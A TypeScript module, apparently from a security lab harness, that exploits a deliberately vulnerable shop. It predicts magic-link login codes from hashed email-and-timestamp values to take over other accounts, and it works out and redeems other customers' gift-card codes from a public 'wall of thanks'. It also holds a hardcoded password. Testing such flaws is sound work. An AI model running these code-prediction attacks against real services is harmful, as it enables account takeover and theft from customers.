import type { Tools } from '#lab'

/** A customer who is logged in, with a token. */
interface Customer {
  token: string
}

/** A card on the wall of thanks. */
interface ThankfulCard {
  from: string | null
  to: string | null
  boughtAt: string
  isRedeemed: boolean
}

/** Has a link mailed. Returns the time by the shop (ISO date). */
export async function askForLink({ http, expect }: Tools, email: string): Promise<string> {
  const answer = await http.post('/rest/magic-link', { email })
  expect(answer.status === 200, `the link was answered with ${answer.status}`)
  return answer.json<{ data: { sentAt: string } }>().data.sentAt
}

/** The code in the last mail to one of the attacker's own addresses. */
export async function mailedCode(tools: Tools, email: string): Promise<string> {
  const code = /\/magic\/([\w-]+)\?/.exec((await tools.lastLetter(email)) ?? '')?.[1]
  tools.expect(code !== undefined, `no link came to ${email}`)
  return code ?? ''
}

/** Opens a link. Returns the status. */
export async function follow(
  { http }: Tools,
  email: string,
  code: string,
): Promise<{ status: number; umail: string }> {
  const answer = await http.get(`/magic/${code}?email=${encodeURIComponent(email)}`)
  if (answer.status !== 200) return { status: answer.status, umail: '' }
  const { umail } = answer.json<{ authentication: { umail: string } }>().authentication
  return { status: answer.status, umail }
}

/**
 * What an attacker can compute from an address and a time: with the algorithm in the source, and with variants that are
 * said to be better.
 */
export async function codesOf(who: string, moment: string): Promise<string[]> {
  const ms = Date.parse(moment)
  const seconds = Math.floor(ms / 1000)
  const made = [
    hash('SHA-1', `${who}:${seconds}`),
    hash('SHA-256', `${who}:${seconds}`),
    hash('SHA-1', `${who}:${ms}`),
    hash('SHA-1', `${who}:${seconds}:quince-without-pips`),
  ]
  return (await Promise.all(made)).map((hex) => hex.slice(0, 10))
}

async function hash(algorithm: string, text: string): Promise<string> {
  const bytes = await crypto.subtle.digest(algorithm, new TextEncoder().encode(text))
  return Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, '0')).join('')
}

/** Opens another account with a computed code. */
export async function breakIn(tools: Tools, email: string): Promise<void> {
  const codes = await codesOf(email, await askForLink(tools, email))
  for (const code of codes) {
    const { status, umail } = await follow(tools, email, code)
    if (status === 200 && umail === email) return
  }
  tools.expect(false, `none of ${codes.length} codes opened the account of ${email}`)
}

/** Buys a card of ten. Returns its code. */
export async function buy({ http, expect }: Tools, { token }: Customer, onWall = false): Promise<string> {
  const order = { value: 10, price: 10, message: 'Cheers', onWall }
  const bought = await http.post('/rest/gift-cards', order, { token })
  expect(bought.status === 201, `the card was answered with ${bought.status}`)
  return bought.json<{ data: { code: string } }>().data.code
}

/** Redeems a card. Returns the status. */
export async function redeem({ http }: Tools, { token }: Customer, code: string): Promise<number> {
  return (await http.post('/rest/gift-cards/redeem', { code }, { token })).status
}

/** What the wall of thanks shows. */
export async function readWall({ http, expect }: Tools): Promise<{ cards: ThankfulCard[]; text: string }> {
  const answer = await http.get('/rest/gift-cards/wall')
  expect(answer.status === 200, `the wall was answered with ${answer.status}`)
  return { cards: answer.json<{ data: ThankfulCard[] }>().data, text: answer.text }
}

/** The latest card of a regular customer that is still full: who bought it, and when. */
export async function cardOfRegular(tools: Tools): Promise<{ email: string; boughtAt: string }> {
  const { cards } = await readWall(tools)
  const card = cards.find(({ to, isRedeemed }) => to !== null && !isRedeemed)
  tools.expect(card !== undefined, 'no full card of a regular hangs on the wall')
  const { from, boughtAt } = card ?? { from: '', boughtAt: '' }
  return { email: `${(from ?? '').toLowerCase()}@${tools.settings.domain}`, boughtAt }
}

/** Redeems a regular customer's card with a computed code. */
export async function takeFromWall(tools: Tools, thief: Customer): Promise<void> {
  const { email, boughtAt } = await cardOfRegular(tools)
  const codes = await codesOf(email, boughtAt)
  for (const code of codes) if ((await redeem(tools, thief, `PEEL-${code}`)) === 200) return
  tools.expect(false, `none of ${codes.length} codes was that of the card`)
}

export const password = 'Pear & Quince 7'
